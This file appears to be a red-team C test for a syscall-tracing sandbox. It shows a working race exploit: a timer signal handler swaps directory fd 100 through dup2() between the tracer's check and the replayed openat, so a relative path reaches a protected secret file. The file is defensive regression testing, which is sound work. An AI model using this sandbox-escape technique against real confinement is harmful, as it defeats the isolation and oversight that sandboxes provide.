/* race_replay.c: a decision replayed after the task ran code of its own (issue 11, red team).
 *
 * When the tracer must hold a call's arguments and the process has no scratch area yet, it
 * turns the stopped call into an mmap of the area, then makes the task execute the original
 * `syscall` instruction again.  Between the injected mmap's return and that second entry the
 * task is back in user space: a pending signal is delivered there and its handler runs.  A
 * handler that changes what the call's start means -- here dup2() over the dirfd, a call no
 * rule names, so it does not stop -- used to change it after the decision: the call came
 * back with the same registers and was given the old decision without a new check, and the
 * kernel resolved the relative spelling from the new start.
 *
 *   race_replay MODE WORK ROOT ATTEMPTS
 *
 * WORK holds a decoy WORK/secd/secret.txt (made here); ROOT is the scene, whose
 * ROOT/secd/secret.txt is the secret.  The call is openat(100, "secd/secret.txt") with fd 100 on
 * WORK at the check; the handler, armed just before the call, puts ROOT at fd 100.  A timer
 * fires every 100 us, so a signal is pending whenever the tracer takes longer than that over
 * the stop; the call comes after a spin of half a period (see attempt()).  Each attempt is a fresh child (a fresh address space: no scratch area yet).
 * MODE says why the call is held:
 *   shared   the path lies in a MAP_SHARED page (a tree of one task: the page may be written
 *            by others)
 *   sibling  a second process of the tree is alive (it sleeps; it shares nothing)
 */
#include "attack.h"

#include <sys/mman.h>

static volatile sig_atomic_t armed;
static int swap_fd = -1, start_fd = -1;

static void on_alarm(int sig) {
    (void)sig;
    if (armed) {
        dup2(swap_fd, 100);  /* no rule names dup2: the filter lets it through, no stop */
        armed = 0;
    }
}

static int attempt(const char *mode, int i) {
    char *path = "secd/secret.txt";
    if (strcmp(mode, "shared") == 0) {
        char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        if (page == MAP_FAILED)
            return -1;
        strcpy(page, path);
        path = page;
    }
    if (dup2(start_fd, 100) < 0)
        return -1;
    struct sigaction sa = {0};
    sa.sa_handler = on_alarm;
    sa.sa_flags = SA_RESTART;
    sigaction(SIGALRM, &sa, NULL);
    struct itimerval every = {{0, 100}, {0, 100}};
    armed = 1;
    setitimer(ITIMER_REAL, &every, NULL);
    /* spin 0 to 300 us: natively the handler runs before the call when the first tick comes
     * during the spin (the control run reaches the secret so); traced, a tick that comes
     * during the spin swaps the start before the check, one that comes during the stop swaps
     * it after */
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    do
        clock_gettime(CLOCK_MONOTONIC, &t);
    while ((t.tv_sec - t0.tv_sec) * 1000000000L + (t.tv_nsec - t0.tv_nsec) < (i * 37) % 300 * 1000L);
    int fd = openat(100, path, O_RDONLY);
    int err = errno;
    struct itimerval off = {{0, 0}, {0, 0}};
    setitimer(ITIMER_REAL, &off, NULL);
    if (fd >= 0 && is_secret_fd(fd))
        return 2;
    if (fd >= 0)
        return 1;
    note("attempt %d: %s", i, ename(err));
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 5)
        usage("race_replay shared|sibling WORK ROOT ATTEMPTS");
    const char *mode = argv[1], *work = argv[2], *root = argv[3];
    int attempts = atoi(argv[4]);
    char decoy[4096];
    snprintf(decoy, sizeof decoy, "%s/secd", work);
    mkdir(decoy, 0755);
    snprintf(decoy, sizeof decoy, "%s/secd/secret.txt", work);
    int d = open(decoy, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (d < 0 || write(d, "decoy\n", 6) != 6)
        blocked("cannot make the decoy: %s", ename(errno));
    close(d);
    /* opened before anything else runs, so that the attempt's openat is the first call of
     * its process whose arguments are held (the one that maps the scratch area) */
    start_fd = open(work, O_RDONLY | O_DIRECTORY);
    swap_fd = open(root, O_RDONLY | O_DIRECTORY);
    if (start_fd < 0 || swap_fd < 0)
        blocked("cannot open the start directories: %s", ename(errno));
    pid_t sleeper = -1;
    if (strcmp(mode, "sibling") == 0) {
        sleeper = fork();
        if (sleeper == 0) {
            pause();
            _exit(0);
        }
    }
    int escapes = 0, decoys = 0, refused = 0;
    for (int i = 0; i < attempts && !escapes; i++) {
        int pipefd[2];
        if (pipe(pipefd) < 0)
            break;
        pid_t child = fork();
        if (child == 0) {
            close(pipefd[0]);
            char r = (char)('0' + attempt(mode, i));
            if (write(pipefd[1], &r, 1) < 0)
                _exit(1);
            _exit(0);
        }
        close(pipefd[1]);
        char r = 0;
        if (read(pipefd[0], &r, 1) != 1)
            r = 0;
        close(pipefd[0]);
        waitpid(child, NULL, 0);
        if (r == '2')
            escapes++;
        else if (r == '1')
            decoys++;
        else
            refused++;
    }
    if (sleeper > 0) {
        kill(sleeper, SIGKILL);
        waitpid(sleeper, NULL, 0);
    }
    if (escapes)
        escaped("openat(100, \"secd/secret.txt\") opened the secret (fd 100 swapped by a handler)");
    blocked("%d attempts: %d opened the decoy, %d failed, none the secret", attempts, decoys,
            refused);
}
